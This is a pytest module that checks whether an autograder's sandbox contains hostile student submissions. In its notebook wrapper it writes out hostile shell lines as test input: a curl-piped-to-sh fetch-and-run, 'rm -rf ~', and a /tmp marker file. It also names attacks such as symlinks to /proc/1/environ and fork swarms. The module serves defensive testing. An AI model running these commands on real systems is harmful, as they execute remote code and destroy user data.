"""Does grading survive hostile submissions, and do they leave no trace?

The hostile files (tests/corpus/hostile/) are graded in one batch beside the reference
and a correct variant, through the real command line. For each: it gets the grade its
'# expect:' line says; the honest students keep full marks; the submissions folder and
the kit's files are unchanged; no file appears outside the output folder; and no
process is left running.

Some of these files call kill(-1) or fork many processes. Without the sandbox's pid
namespace and Landlock that would hit the machine itself, so the module is skipped,
with the reason, where those protections are not in force.
"""
import dataclasses
import hashlib
import json
import os
import shutil
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from corpus_support import KIT, expectation_problems, scenarios

pytestmark = pytest.mark.slow

HOSTILE = scenarios("hostile")
# The same attacks handed in as notebooks (one code cell each, plus shell escapes and a %%bash
# cell that the grader must neutralise): confinement holds on the notebook path too.
AS_NOTEBOOKS = ("reads_the_reference", "reads_other_students", "writes_fake_results", "patches_torch",
                "kills_parent", "forking_daemon", "opens_network", "evil_tensor_subclass", "exit_at_import",
                "symlinks_the_output_log", "fifo_output_log", "locks_the_scratch_folder", "forges_a_malformed_reply",
                "forges_a_huge_reply_header", "disables_the_dispatch_modes", "disables_torch_function",
                "patches_the_watch_through_sys_modules", "raw_aten_operators", "sgd_copies_the_next_state_from_gc",
                "connects_to_a_unix_socket", "leaves_sysv_shared_memory", "hides_the_mode_switch_behind_getattr",
                "leaves_the_watch_switched_off", "raw_aten_without_dispatch")
NOTEBOOK_SCENARIOS = [dataclasses.replace(s, name=f"{s.name}_notebook") for s in HOSTILE if s.name in AS_NOTEBOOKS]


def _as_notebook(source: str) -> str:
    cells = [nbformat.v4.new_code_cell("!curl -s http://example.com/x | sh\n%matplotlib inline"),
             nbformat.v4.new_code_cell(source),
             nbformat.v4.new_code_cell("%%bash\ntouch /tmp/pwned-by-hostile\nrm -rf ~")]
    return nbformat.writes(nbformat.v4.new_notebook(cells=cells))
RUN_LABEL = f"hostile-{os.getpid()}-{time.time_ns()}"
CANARIES = [Path("/tmp/results.json"), Path("/tmp/pwned-by-hostile"), Path.home() / "results.json"]


def _config(tmp: Path) -> Path:
    """Shorter limits; and every call gets call_timeout_s (call_factor = 0), so that each attack meets the
    protection it is aimed at (memory, reply size) before a limit calibrated on the reference stops it."""
    text = (KIT / "grading.toml").read_text(encoding="utf-8")
    for key, value in (("call_timeout_s", "5.0"), ("call_factor", "0.0"), ("startup_timeout_s", "10.0"),
                       ("memory_mb", "2048")):
        text = re.sub(rf"^{key} = .*$", f"{key} = {value}", text, flags=re.M)
    path = tmp / "grading.toml"
    path.write_text(text, encoding="utf-8")
    return path


def _digest(*roots: Path) -> str:
    h = hashlib.sha256()
    for root in roots:
        for path in sorted(p for p in (root.rglob("*") if root.is_dir() else [root])
                           if "__pycache__" not in p.parts):
            h.update(str(path).encode())
            if path.is_file():
                h.update(path.read_bytes())
    return h.hexdigest()


def _run_processes() -> set[int]:
    """Live processes of this test's grading run: they carry its AUTOGRADER_RUN label."""
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                environ = Path(f"/proc/{entry}/environ").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if f"AUTOGRADER_RUN={RUN_LABEL}".encode() in environ and state != "Z":
                found.add(int(entry))
    return found


def _grade(subs: Path, out: Path, config: Path, tmpdir: Path | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "AUTOGRADER_RUN": RUN_LABEL, **({"TMPDIR": str(tmpdir)} if tmpdir else {})}
    return subprocess.run([sys.executable, "-m", "autograder", "grade", "linear_regression", str(subs),
                           "--out", str(out), "--config", str(config), "--devices", "cpu",
                           "--workers", "2"], capture_output=True, text=True, cwd=KIT, timeout=900, env=env)


class _UnixListener:
    """A unix socket at a known path, recording whatever a submission sends to it."""

    PATH = "/tmp/autograder-hostile.sock"

    def __init__(self):
        import socket
        import threading
        if os.path.exists(self.PATH):
            os.remove(self.PATH)
        self.received = b""
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(self.PATH)
        os.chmod(self.PATH, 0o777)
        self.server.listen(8)
        self.server.settimeout(0.5)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.received += conn.recv(1024)
            except OSError:
                pass
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.server.close()
        os.remove(self.PATH)


def _shared_memory_segments() -> int:
    try:
        return len(Path("/proc/sysvipc/shm").read_text().splitlines()) - 1
    except OSError:
        return 0


@pytest.fixture(scope="module")
def sandbox_in_force(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("probe")
    (tmp / "subs" / "probe").mkdir(parents=True)
    (tmp / "subs" / "probe" / "linear_regression.py").write_bytes(
        (KIT / "solutions" / "linear_regression" / "linear_regression.py").read_bytes())
    run = _grade(tmp / "subs", tmp / "out", _config(tmp))
    assert run.returncode == 0, run.stderr[-2000:]
    sandbox = json.loads((tmp / "out" / "students" / "probe" / "results.json").read_text())["extra_data"]["sandbox"]["cpu"]
    needed = ("own pid namespace", "no network", "cannot signal the grader", "writes only in the scratch folder")
    absent = [n for n in needed if not any(n in item for item in sandbox["in_force"])]
    if absent:
        why = "hostile submissions need these protections, missing here: " + "; ".join(sandbox["missing"])
        if os.environ.get("AUTOGRADER_REQUIRE_SANDBOX") == "1":  # .ci/run: every mechanism is expected
            pytest.fail(why)
        pytest.skip(why)


@pytest.fixture(scope="module")
def batch(sandbox_in_force, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    subs = tmp / "submissions"
    for s in HOSTILE:
        (subs / s.name).mkdir(parents=True)
        (subs / s.name / "linear_regression.py").write_text(s.source(), encoding="utf-8")
        if s.name in AS_NOTEBOOKS:
            (subs / f"{s.name}_notebook").mkdir()
            (subs / f"{s.name}_notebook" / "linear_regression.ipynb").write_text(_as_notebook(s.source()))
    for honest, source in (("honest_reference", KIT / "solutions" / "linear_regression" / "linear_regression.py"),
                           ("honest_alice", KIT / "demo" / "linear_regression" / "alice" / "linear_regression.py")):
        (subs / honest).mkdir()
        (subs / honest / "linear_regression.py").write_bytes(source.read_bytes())
    for canary in CANARIES:
        assert not canary.exists(), f"remove {canary} before running these tests"
    kit_files = [KIT / "solutions", KIT / "tests" / "graded", KIT / "grading.toml", KIT / "autograder"]
    before = (_digest(subs), _digest(*kit_files))
    listener, segments = _UnixListener(), _shared_memory_segments()
    grader_tmp = tmp / "grader-tmp"
    grader_tmp.mkdir()
    started = time.monotonic()
    try:
        run = _grade(subs, tmp / "out", _config(tmp), grader_tmp)
    finally:
        listener.close()
    took = time.monotonic() - started
    leftovers = {"unix socket": listener.received, "shared memory": _shared_memory_segments() - segments,
                 "scratch": sorted(p.name for p in grader_tmp.iterdir())}
    deadline = time.monotonic() + 15
    while _run_processes() and time.monotonic() < deadline:
        time.sleep(0.2)
    after = (_digest(subs), _digest(*kit_files), _run_processes(), leftovers)
    results = {p.name: json.loads((tmp / "out" / "students" / p.name / "results.json").read_text()) for p in subs.iterdir()}
    return run, results, before, after, took


def test_the_batch_finishes_with_exit_zero(batch):
    run, results, *_ = batch
    assert run.returncode == 0, run.stderr[-3000:]
    assert len(results) == len(HOSTILE) + len(NOTEBOOK_SCENARIOS) + 2


@pytest.mark.parametrize("scenario", HOSTILE + NOTEBOOK_SCENARIOS, ids=[s.name for s in HOSTILE + NOTEBOOK_SCENARIOS])
def test_hostile_submission_is_graded_correctly(batch, scenario):
    _, results, *_ = batch
    problems = expectation_problems(scenario, results[scenario.name])
    assert not problems, problems


@pytest.mark.parametrize("honest", ["honest_reference", "honest_alice"])
def test_honest_students_keep_full_marks(batch, honest):
    _, results, *_ = batch
    result = results[honest]
    assert result["score"] == result["extra_data"]["max_score"] > 0


def test_fake_results_do_not_move_a_grade(batch):
    _, results, *_ = batch
    forged = results["writes_fake_results"]
    assert forged["score"] < forged["extra_data"]["max_score"]
    assert all(t["score"] <= t["max_score"] for t in forged["tests"])
    for canary in CANARIES:
        assert not canary.exists(), f"a submission wrote {canary}"


def test_submissions_and_kit_files_are_unchanged(batch):
    _, _, before, after, _ = batch
    assert after[0] == before[0], "the submissions folder changed"
    assert after[1] == before[1], "the kit's files changed"


def test_no_process_is_left_behind(batch):
    _, _, _, after, _ = batch
    assert not after[2], f"processes of the grading run still running: {sorted(after[2])}"


def test_limits_are_named_in_the_feedback(batch):
    _, results, *_ = batch
    loop = results["endless_ignoring_signals"]
    assert any("did not finish within 5 s" in t["output"] for t in loop["tests"])
    flood = results["output_flood"]
    assert "printed more than the grader keeps" in flood["output"]
    bomb = results["memory_bomb"]
    # Which limit stops the bomb first depends on how fast the machine zeroes pages: the memory
    # limit (a MemoryError, or the process killed), or, on a loaded machine, the CPU-time limit
    # while it is still filling memory. Either way a limit is named, and only squared_loss pays.
    named = ("MemoryError", "died", "allocate memory", "did not finish within")
    assert any(any(word in t["output"] for word in named) for t in bomb["tests"] if t["score"] < t["max_score"])


def test_nothing_leaks_through_unix_sockets_shared_memory_or_scratch_folders(batch):
    _, _, _, after, _ = batch
    leftovers = after[3]
    assert leftovers["unix socket"] == b"", leftovers
    assert leftovers["shared memory"] <= 0, leftovers
    assert leftovers["scratch"] == [], leftovers


def test_the_grader_never_reads_a_path_the_student_replaced(batch):
    """output.log swapped for symlinks to /proc/1/environ and the reference, or for a FIFO: the
    grader neither hangs nor shows their contents; only what the student printed comes back."""
    _, results, *_ = batch
    for name in ("symlinks_the_output_log", "fifo_output_log", "symlinks_the_output_log_notebook"):
        text = json.dumps(results[name])
        assert "PATH=" not in text and "BEGIN SOLUTION" not in text and "def synthetic_data" not in text
    printed = [t["output"] for t in results["symlinks_the_output_log"]["tests"] if t["extra_data"].get("kind") == "printed"]
    assert printed and "SYMLINK-MARKER" in printed[0]


def test_forged_replies_cost_only_their_own_checks(batch):
    _, results, *_ = batch
    for name in ("forges_a_malformed_reply", "forges_a_huge_reply_header"):
        kinds = {t["extra_data"]["kind"] for t in results[name]["tests"] if t["status"] == "failed"}
        assert "internal" not in kinds, (name, kinds)


def test_tampering_is_named_and_sent_to_review(batch):
    _, results, *_ = batch
    for name in ("disables_the_dispatch_modes", "disables_torch_function", "sgd_copies_the_next_state_from_gc",
                 "patches_torch"):
        failed = [t for t in results[name]["tests"] if t["status"] == "failed"]
        assert failed and all(t["extra_data"]["kind"] == "tampering" for t in failed), name
        assert "ask your instructor to review" in failed[0]["output"], failed[0]["output"]


# ------------------------------------------------------------------ as an ordinary user
# One attack per protection, graded by an ordinary user (nobody) where this run is root's: root
# skips some checks an ordinary user meets (RLIMIT_NPROC, file permissions) and enters namespaces
# without a user namespace, so the same confinement is proven on the path instructors take.
AS_ORDINARY_USER = ("reads_the_reference", "right_only_if_the_reference_is_readable", "reads_other_students",
                    "writes_fake_results", "kills_parent", "fork_swarm", "forking_daemon", "opens_network",
                    "connects_to_a_unix_socket", "leaves_sysv_shared_memory", "memory_bomb",
                    "floods_output_by_os_write", "output_flood", "symlinks_the_output_log",
                    "locks_the_scratch_folder", "endless_ignoring_signals", "replies_with_400_mb")
ORDINARY_PYTHON = os.environ.get("AUTOGRADER_ORDINARY_USER_PYTHON")
"""A Python, with the kit's dependencies, that an ordinary user may run (the kit's own may live in
root's home); .ci/run makes one from Debian's python3 when it runs as root."""


def test_hostile_files_graded_by_an_ordinary_user(sandbox_in_force):
    import pwd
    import tempfile
    required = os.environ.get("AUTOGRADER_REQUIRE_SANDBOX") == "1"
    if os.geteuid() != 0:
        pytest.skip("this run is an ordinary user's: the batch above is the proof")
    python = ORDINARY_PYTHON
    try:
        user = pwd.getpwnam("nobody")
    except KeyError:
        user = None
    usable = python and user and subprocess.run(
        [python, "-c", "import torch, numpy, nbformat, pydantic, jinja2, matplotlib"], user=user.pw_uid,
        group=user.pw_gid, extra_groups=[], capture_output=True, cwd="/", timeout=300).returncode == 0
    if not usable:
        why = ("no Python with the kit's dependencies that the user nobody may run "
               "(AUTOGRADER_ORDINARY_USER_PYTHON)")
        if required:
            pytest.fail(why)
        pytest.skip(why)
    base = Path(tempfile.mkdtemp(prefix="autograder-ordinary-"))
    try:
        base.chmod(0o755)
        kit = base / "kit"
        shutil.copytree(KIT, kit, ignore=shutil.ignore_patterns(".git", "__pycache__", ".pytest_cache", "out"))
        subs, out, home = base / "subs", base / "out", base / "home"
        chosen = [s for s in HOSTILE if s.name in AS_ORDINARY_USER]
        assert len(chosen) == len(AS_ORDINARY_USER)
        for s in chosen:
            (subs / s.name).mkdir(parents=True)
            (subs / s.name / "linear_regression.py").write_text(s.source(), encoding="utf-8")
        (subs / "honest_reference").mkdir()
        (subs / "honest_reference" / "linear_regression.py").write_bytes(
            (KIT / "solutions" / "linear_regression" / "linear_regression.py").read_bytes())
        for folder in (out, home):
            folder.mkdir()
            os.chown(folder, user.pw_uid, user.pw_gid)
        config = _config(base)
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "TMPDIR": str(home),
               "AUTOGRADER_RUN": RUN_LABEL}
        run = subprocess.run([python, "-m", "autograder", "grade", "linear_regression", str(subs), "--out", str(out),
                              "--config", str(config), "--kit", str(kit), "--devices", "cpu", "--workers", "2"],
                             user=user.pw_uid, group=user.pw_gid, extra_groups=[], env=env, cwd=kit,
                             capture_output=True, text=True, timeout=900)
        assert run.returncode == 0, run.stderr[-3000:]
        results = {p.parent.name: json.loads(p.read_text()) for p in out.glob("students/*/results.json")}
        assert set(results) == {s.name for s in chosen} | {"honest_reference"}
        honest = results["honest_reference"]
        assert honest["score"] == honest["extra_data"]["max_score"] > 0
        in_force = honest["extra_data"]["sandbox"]["cpu"]["in_force"]
        assert any("more processes" in item for item in in_force), "RLIMIT_NPROC applies to an ordinary user"
        problems = {s.name: expectation_problems(s, results[s.name]) for s in chosen}
        assert not any(problems.values()), {k: v for k, v in problems.items() if v}
    finally:
        shutil.rmtree(base, ignore_errors=True)
